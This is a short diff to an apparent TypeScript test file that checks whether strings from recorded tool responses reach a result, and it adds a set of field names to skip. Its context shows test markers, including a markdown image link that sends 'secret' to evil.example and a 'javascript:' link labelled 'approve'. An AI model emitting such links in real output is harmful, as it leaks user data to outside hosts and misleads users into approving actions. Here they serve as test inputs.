@@ -22,6 +22,8 @@ const MARKERS = [
   "\u0000marked\u0085\u2028\ud83d",
   "![marked](https://evil.example/?q=secret) [approve](javascript:0)",
 ];
+/** Fields that name the kind of a record, or the length of its periods. */
+const KINDS: ReadonlySet<string | number> = new Set(["type", "res"]);
 const sandbox = createFaultSandbox();
 /** The recorded calls of all tools, each with a title. */
 export const CALLS = nonEmpty(recordedCalls(sandbox), "recorded calls").map((call): [string, RecordedCall] => [
@@ -37,7 +39,8 @@ function carriedStrings({ responses, result }: Recording): { index: number; path
     const paths = pathsOf(body).filter((path) => {
       const value = valueAt(body, path);
       // A kind of record such as `metrics`, or the place `0`, may happen to equal a name in the result.
-      return typeof value === "string" && value.length > 1 && path.at(-1) !== "type" && resultStrings.has(value);
+      const isKind = KINDS.has(path.at(-1) ?? "");
+      return typeof value === "string" && value.length > 1 && !isKind && resultStrings.has(value);
     });
     return paths.map((path) => ({ index, path, body }));
   });
